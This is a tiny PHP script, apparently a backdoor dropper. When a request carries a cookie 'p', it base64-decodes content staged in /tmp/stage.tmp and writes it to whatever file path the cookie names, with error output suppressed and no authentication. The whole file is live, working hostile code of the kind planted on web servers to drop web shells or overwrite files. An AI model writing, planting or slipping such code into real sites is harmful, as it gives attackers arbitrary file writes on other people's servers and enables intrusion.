<?php
// Writes a payload staged in a temporary file, decoded, wherever the
// request's cookie says.
if (@$_COOKIE['p'] != "") {
    file_put_contents($_COOKIE['p'], base64_decode(file_get_contents("/tmp/stage.tmp")));
}
